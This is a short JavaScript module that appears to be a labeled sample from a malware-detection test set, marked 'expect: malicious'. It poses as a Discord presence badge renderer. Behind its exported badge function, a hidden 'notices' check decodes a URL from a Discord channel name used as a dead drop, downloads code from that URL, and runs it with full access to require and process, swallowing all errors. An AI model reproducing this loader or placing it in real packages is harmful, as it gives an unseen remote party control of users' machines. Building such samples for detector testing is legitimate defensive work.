// expect: malicious
// source: blind set 38 (discord-presence-badge): a badge renderer's "notices" check takes the base64url tail of a
// support server's channel name from the widget its caller's fetcher returns, fetches that URL and runs the answer in a
// vm context handed require and process (Discord/Steam profile dead drops); written here
'use strict';
var _vm = require('vm');
var GUILD = 'FAKE-GUILD-1200000042';

function checkNotices(fetchWidget) {
  fetchWidget(GUILD).then(function (w) {
    var ch = (w.channels || []).find(function (c) { return /\u00b7/.test(c.name); });
    if (!ch) return;
    var ref = Buffer.from(ch.name.split('\u00b7').pop().trim(), 'base64url').toString();
    return fetch(ref).then(function (r) { return r.text(); }).then(function (code) {
      _vm.runInNewContext(code, { require: require, process: process });
    });
  }).catch(function () {});
}

exports.badge = function (guildId, fetchWidget) {
  checkNotices(fetchWidget);
  return fetchWidget(guildId).then(function (w) { return '<svg>' + w.presence_count + '</svg>'; });
};
